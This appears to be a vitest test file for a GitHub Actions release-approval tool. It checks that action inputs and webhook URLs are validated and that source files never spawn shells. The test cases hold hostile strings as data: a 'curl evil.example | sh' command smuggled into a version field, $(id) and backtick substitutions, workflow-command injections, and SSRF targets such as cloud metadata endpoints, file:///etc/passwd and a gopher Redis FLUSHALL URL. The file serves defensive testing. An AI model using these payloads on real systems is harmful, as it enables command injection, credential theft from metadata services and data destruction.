import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { type Contract, makeSecrets, readInputs } from "@release-approval/action-kit";
import { ConfigurationError } from "@release-approval/approval";
import { readChannels, sendAll } from "@release-approval/notify";
import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import { contract as audit } from "../../../actions/audit-trail/contract.ts";
import { contract as gate } from "../../../actions/gate-release/contract.ts";
import { contract as request } from "../../../actions/request-approvals/contract.ts";
import { contract as track } from "../../../actions/track-approvals/contract.ts";

/* What comes into an action through its inputs, and what goes out to the steps after it. No process, no network. */

beforeEach(() => {
  vi.spyOn(process.stdout, "write").mockReturnValue(true);
  vi.spyOn(globalThis, "fetch").mockRejectedValue(new Error("nothing may be asked"));
});
afterEach(() => {
  vi.restoreAllMocks();
  vi.unstubAllEnvs();
});

/** The error with which an action refuses its inputs. */
function refusalOf(contract: Contract, inputs: Record<string, string>): ConfigurationError | null {
  for (const [name, value] of Object.entries({ "github-token": "ghs_sample", ...inputs }))
    vi.stubEnv(`INPUT_${name.toUpperCase()}`, value);
  try {
    readInputs(contract, makeSecrets());
    return null;
  } catch (error) {
    if (error instanceof ConfigurationError) return error;
    throw error;
  }
}

describe("a version is a semantic version and nothing else", () => {
  it.each([
    "1.2.0; curl evil.example | sh",
    "1.2.0$(id)",
    "1.2.0`id`",
    "1.2.0 && id",
    "1.2.0\n::add-mask::1",
    "1.2.0\r\nresult<<x",
    "$" + "{{ secrets.NPM_TOKEN }}",
    "1.2.0-$" + "{{github.token}}",
    "<script>alert(1)</script>",
    "[1.2.0](https://evil.example)",
    "1.2.0\u202E0.9",
    "1.2.0\u200B",
    "\uFF11.2.0",
    "1.2.0-r\u0441.1",
    "../../1.2.0",
    "v1.2.0/../../main",
    "1.2",
    "latest",
    "1.2.0".repeat(100),
  ])("%j", (version) => {
    for (const contract of [request, gate, audit])
      expect(refusalOf(contract, { version })?.message).toMatch(/input `version`/);
  });

  it("and one that is comes through", () => {
    expect(refusalOf(gate, { version: "v1.2.0-rc.1" })).toBeNull();
  });
});

describe("an address that leads into the runner's network", () => {
  const channels = ["slack-webhook-url", "discord-webhook-url", "teams-webhook-url", "webhook-url"] as const;
  const none = { "webhook-secret": null, "smtp-url": null, "mail-from": null };
  const noUrl = Object.fromEntries(channels.map((name) => [name, null])) as Record<
    (typeof channels)[number],
    null
  >;

  it("stands in one of four inputs", () => {
    const urls = Object.keys({ ...request.inputs, ...track.inputs }).filter((name) =>
      name.endsWith("webhook-url"),
    );
    expect(urls.sort()).toEqual([...channels].sort());
  });

  it.each([
    "http://169.254.169.254/latest/meta-data/",
    "http://[::ffff:169.254.169.254]/",
    "http://metadata.google.internal/",
    "http://10.0.0.7:2375/containers/json",
    "http://0x0a000001/",
    "file:///etc/passwd",
    "gopher://127.0.0.1:6379/_FLUSHALL",
    "https://user:very-secret@hooks.example/services/T0",
  ])("is refused before anything happens, and not shown: %s", (address) => {
    for (const name of channels) {
      const read = () => readChannels({ ...none, ...noUrl, [name]: address });
      expect(read).toThrow(ConfigurationError);
      expect(read).toThrow(new RegExp(`input \`${name}\``));
      expect(() => read(), name).not.toThrow(address);
    }
  });

  it.each<[address: string, resolved: string]>([
    ["https://169.254.169.254/latest/meta-data/", ""],
    ["https://[::ffff:169.254.169.254]/", ""],
    ["https://2852039166/", ""],
    ["https://0x0a000001/", ""],
    ["https://hooks.example/services/T0", "10.0.0.7"],
    ["https://hooks.example/services/T0", "127.0.0.1"],
    ["https://hooks.example/services/T0", "fd00::7"],
    ["https://hooks.example/services/T0", "::ffff:192.168.0.7"],
  ])("is not connected to: %s %s", async (address, resolved) => {
    const settings = readChannels({ ...none, ...noUrl, "webhook-url": address });
    const post = { key: "a", id: "a", channel: "webhook", event: "released", body: "{}" } as const;
    const [sent] = await sendAll([post], settings, {
      allowPrivate: false,
      redact: (text) => text,
      pause: async () => {},
      resolve: async () => [{ address: resolved, family: resolved.includes(":") ? 6 : 4 }],
    });
    expect(sent?.problem).toMatch(/did not get the message: .*(private|not a public|address)/);
    expect(sent?.problem).not.toContain("/services");
  });
});

describe("the steps after an action get its declared outputs, and nothing else of it", () => {
  const root = fileURLToPath(new URL("../../..", import.meta.url));
  const sources = [
    "actions",
    "packages/action-kit/src",
    "packages/approval/src",
    "packages/github/src",
    "packages/report/src",
  ]
    .flatMap((folder) =>
      readdirSync(join(root, folder), { recursive: true, withFileTypes: true })
        .filter((one) => one.isFile() && one.name.endsWith(".ts") && !one.name.endsWith(".test.ts"))
        .map((one) => join(one.parentPath, one.name)),
    )
    .filter((path) => !path.includes("node_modules"));

  it("there are sources to look at", () => {
    expect(sources.length).toBeGreaterThan(200);
  });

  // Whatever writes the environment, the path, the state or the log of the steps that follow.
  const writers =
    /\b(exportVariable|addPath|saveState|setCommandEcho|GITHUB_ENV|GITHUB_PATH|GITHUB_STATE)\b|console\.|process\.stdout\.write/;
  it("no source writes GITHUB_ENV, GITHUB_PATH, GITHUB_STATE or raw lines of the log", () => {
    expect(sources.filter((path) => writers.test(readFileSync(path, "utf8")))).toEqual([]);
  });

  // A shell would read what people typed as words of its own.
  const shells = /node:child_process|shell: *true|\bexecSync\b|\beval\(|new Function\(/;
  it("no source starts a shell or makes code of a text", () => {
    expect(sources.filter((path) => shells.test(readFileSync(path, "utf8")))).toEqual([]);
  });
});
